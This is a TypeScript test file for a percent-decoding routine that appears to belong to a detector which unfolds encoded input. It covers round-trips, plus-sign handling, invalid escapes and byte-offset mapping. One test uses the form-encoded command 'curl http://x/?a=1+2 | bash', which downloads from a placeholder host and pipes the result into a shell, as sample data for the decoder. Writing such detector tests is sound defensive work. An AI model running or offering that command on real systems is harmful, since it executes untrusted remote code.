import test from 'ava';
import * as fc from 'fast-check';
import { decodePercent } from '../../../src/detect/unfold/percent.ts';

const NOWHERE = { from: 0, to: 0 };

function decoded(text: string, plus = NOWHERE): string | undefined {
  const result = decodePercent(Buffer.from(text), plus);
  return result && Buffer.from(result.bytes).toString();
}

test('reads what encodeURIComponent writes', (t) => {
  fc.assert(
    fc.property(fc.string({ unit: 'binary' }), (value) => {
      const encoded = encodeURIComponent(value);
      t.is(decoded(encoded) ?? encoded, value);
    }),
    { numRuns: 200 },
  );
});

test('reads what a form writes', (t) => {
  const form = new URLSearchParams({ cmd: 'curl http://x/?a=1+2 | bash' }).toString();
  t.is(decoded(form, { from: 0, to: form.length }), 'cmd=curl http://x/?a=1+2 | bash');
});

test('takes a plus for a blank only where it is told to', (t) => {
  t.is(decoded('a+b?c+d e+f', { from: 4, to: 7 }), 'a+b?c d e+f');
  t.is(decoded('a+b'), undefined);
  t.is(decoded('%41+'), 'A+');
});

test('leaves alone what is no escape, and decodes once', (t) => {
  for (const text of ['', '%', '%4', '%4g', '100% sure', '%%']) t.is(decoded(text), undefined, text);
  t.is(decoded('%%41%2541'), '%A%41');
});

test('leads back to where each byte came from', (t) => {
  const result = decodePercent(Buffer.from('a%2Fb+c%2E'), { from: 0, to: 10 });
  t.deepEqual(
    [0, 1, 2, 3, 4, 5, 6].map((offset) => result?.originOf(offset)),
    [0, 1, 4, 5, 6, 7, 10],
  );
});
